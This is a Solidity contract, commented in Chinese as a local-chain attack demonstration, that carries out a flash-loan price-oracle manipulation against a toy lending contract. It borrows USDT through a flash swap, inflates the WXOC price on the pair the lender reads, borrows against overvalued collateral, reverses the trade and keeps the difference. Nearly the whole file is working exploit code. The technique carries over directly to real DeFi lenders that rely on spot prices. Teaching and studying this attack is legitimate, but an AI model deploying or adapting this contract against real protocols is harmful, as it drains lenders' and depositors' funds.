// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20, ToyLender} from "./ToyLender.sol";

interface IV2FlashPair {
    function token0() external view returns (address);

    function getReserves()
        external
        view
        returns (uint112 reserve0, uint112 reserve1, uint32 blockTimestampLast);

    function swap(uint256 amount0Out, uint256 amount1Out, address to, bytes calldata data) external;
}

/// 攻击演示，只在本地链使用：借来 USDT 推高价格，按虚高的价格抵押借款，再把价格推回去。
/// 四步在一笔交易里完成，发起者自己不需要本金。
contract OracleAttackDemo {
    IERC20 public immutable wxoc;
    IERC20 public immutable usdt;
    IV2FlashPair public immutable market; // WXOC/USDT，受害合约读它的价格
    IV2FlashPair public immutable flashPair; // 另一个交易对，只用来借 USDT

    constructor(IERC20 wxoc_, IERC20 usdt_, IV2FlashPair market_, IV2FlashPair flashPair_) {
        (wxoc, usdt, market, flashPair) = (wxoc_, usdt_, market_, flashPair_);
    }

    // #region attack
    function attack(ToyLender lender, uint256 flashAmount, uint256 collateral) external {
        bytes memory data = abi.encode(lender, flashAmount, collateral);
        bool usdtIsToken0 = flashPair.token0() == address(usdt);
        flashPair.swap(
            usdtIsToken0 ? flashAmount : 0,
            usdtIsToken0 ? 0 : flashAmount,
            address(this),
            data
        );
        usdt.transfer(msg.sender, usdt.balanceOf(address(this)));
    }

    function uniswapV2Call(address sender, uint256, uint256, bytes calldata data) external {
        require(msg.sender == address(flashPair) && sender == address(this));
        (ToyLender lender, uint256 flashAmount, uint256 collateral) = abi.decode(
            data,
            (ToyLender, uint256, uint256)
        );
        // 一、用借来的 USDT 大量买入 WXOC，储备量之比被推高。
        _sell(usdt, flashAmount);
        // 二、此刻按虚高的价格抵押一小部分 WXOC，借出 USDT。
        wxoc.approve(address(lender), collateral);
        lender.borrow(collateral);
        // 三、卖回其余的 WXOC。
        _sell(wxoc, wxoc.balanceOf(address(this)));
        // 四、归还闪电兑换，余下的就是从受害合约拿走的。
        uint256 owed = (flashAmount * 1000 + 996) / 997;
        require(usdt.balanceOf(address(this)) >= owed, "OracleAttackDemo: CANNOT_REPAY");
        usdt.transfer(address(flashPair), owed);
    }
    // #endregion attack

    /// 直接与交易对兑换：转入与 swap 在同一笔交易里，别人插不进来。
    function _sell(IERC20 token, uint256 amountIn) private {
        bool isToken0 = market.token0() == address(token);
        (uint256 reserve0, uint256 reserve1, ) = market.getReserves();
        (uint256 reserveIn, uint256 reserveOut) = isToken0
            ? (reserve0, reserve1)
            : (reserve1, reserve0);
        uint256 inWithFee = amountIn * 997;
        uint256 amountOut = (inWithFee * reserveOut) / (reserveIn * 1000 + inWithFee);
        token.transfer(address(market), amountIn);
        market.swap(isToken0 ? 0 : amountOut, isToken0 ? amountOut : 0, address(this), "");
    }
}
